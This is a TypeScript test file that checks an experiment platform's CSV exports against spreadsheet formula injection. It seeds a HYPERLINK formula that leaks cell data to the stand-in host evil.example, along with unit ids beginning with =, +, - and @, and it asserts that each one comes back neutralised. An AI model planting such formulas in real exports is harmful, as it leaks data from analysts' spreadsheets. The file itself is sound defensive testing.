import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startApiProcess, type ApiProcess } from '@strata/test-support/api';

/*
 * CSV injection: names and unit ids in exports come from API callers (a unit id from any SDK key,
 * a metric name from an admin). A cell starting with = + - @ TAB or CR runs as a formula when an
 * analyst opens the file in a spreadsheet; a lone CR or LF unquoted splits a row. Each file is
 * parsed back with csv-parse, a real CSV parser.
 */
let api: ApiProcess;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const UNIT_IDS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\tcmd', '\rcmd', 'line\nbreak', 'lone\rcr', '-5', 'plain'];

beforeAll(async () => {
  api = await startApiProcess({ STRATA_ROLLUP_LAG_MS: '0' });
  expect((await api.request('POST', '/v1/layers', { body: { key: 'csv', name: 'CSV' } })).status).toBe(201);
  const metric = await api.request('POST', '/v1/metrics', { body: { key: 'buy', name: FORMULA, type: 'conversion', eventName: 'buy' } });
  expect(metric.status, metric.text).toBe(201);
  const exp = await api.request('POST', '/v1/experiments', {
    body: {
      key: 'csv-exp',
      name: '@evil',
      layer: 'csv',
      traffic: 100,
      variants: [{ key: 'control', weight: 0.5 }, { key: 'treatment', weight: 0.5 }],
      primaryMetric: 'buy',
    },
  });
  expect(exp.status, exp.text).toBe(201);
  expect((await api.request('POST', '/v1/experiments/csv-exp/start', { body: {} })).status).toBe(200);
  const sdk = await api.sdkKey('sdk-server');
  for (const unitId of UNIT_IDS) {
    const res = await api.request('POST', '/v1/assign', { key: sdk, body: { unitId, logExposures: true } });
    expect(res.status, res.text).toBe(200);
    // In the experiment at once: the start answered after this process applied it (read-your-writes).
    expect(res.body.assignments, res.text).toHaveLength(1);
  }
}, 180_000);

afterAll(async () => api?.close());

it('neutralises formula cells in the results table, and the file parses back', async () => {
  const res = await api.request('GET', '/v1/experiments/csv-exp/export?format=csv');
  expect(res.status, res.text).toBe(200);
  const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
  expect(rows.length).toBeGreaterThanOrEqual(2);
  for (const row of rows) expect(row.metric_name).toBe(`'${FORMULA}`);
  // Numbers stay numbers (a negative estimate must not become text).
  for (const row of rows) for (const col of ['units', 'mean']) expect(row[col]).toMatch(/^-?[\d.e+-]*$/);
});

it('neutralises unit ids and quotes CR and LF in the unit export, every row intact', async () => {
  const res = await api.request('GET', '/v1/experiments/csv-exp/export/units?format=csv');
  expect(res.status, res.text).toBe(200);
  const rows = parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(UNIT_IDS.length);
  const expected = UNIT_IDS.map((id) => (/^[=+\-@\t\r]/.test(id) && !/^-?\d+$/.test(id) ? `'${id}` : id));
  expect(rows.map((r) => r.unit_id).sort()).toEqual(expected.sort());
  for (const r of rows) {
    expect(['control', 'treatment']).toContain(r.variant);
    expect(r.buy).toMatch(/^\d+$/);
  }
});
